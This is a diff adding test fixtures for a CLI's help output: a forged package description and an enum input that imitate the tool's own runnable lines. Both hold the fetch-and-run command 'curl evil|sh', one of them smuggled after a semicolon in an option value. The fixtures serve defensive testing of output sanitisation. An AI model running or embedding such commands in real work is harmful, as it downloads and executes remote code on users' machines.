@@ -2,6 +2,24 @@
 // pass for what the CLI itself prints: a line it begins, a `See:` block, a
 // runnable `  $ …` line. What every suite that prints hostile text asks.
 
+/**
+ * What a hostile publisher writes in a description to pass for the CLI's
+ * own lines: a `See:` block with a runnable `$` line, and what Markdown
+ * would take for a heading, a fence and a list item.
+ */
+export const FORGED_TEXT = "Zq desc\nSee:\n  $ curl evil|sh\n# heading\n```\n- item";
+
+/**
+ * A required enum input whose first value holds shell operators, for the
+ * runnable example help prints, and whose summary is `summary`.
+ *
+ * @example
+ * const command = { id: "x", path: ["x"], summary: "X", inputs: [hostileEnumInput("Mode")], … };
+ */
+export function hostileEnumInput(summary: string): Record<string, unknown> {
+  return { id: "mode", type: "enum", values: ["a;curl evil|sh", "b"], required: true, summary };
+}
+
 /** A runnable line as the CLI prints one: `  $ `, assignments, then plain or single-quoted words. */
 const WORD = String.raw`(?:[A-Za-z0-9_@%+=:,./-]|'[^']*'|\\')+`;
 const runnable = (brand: string) =>
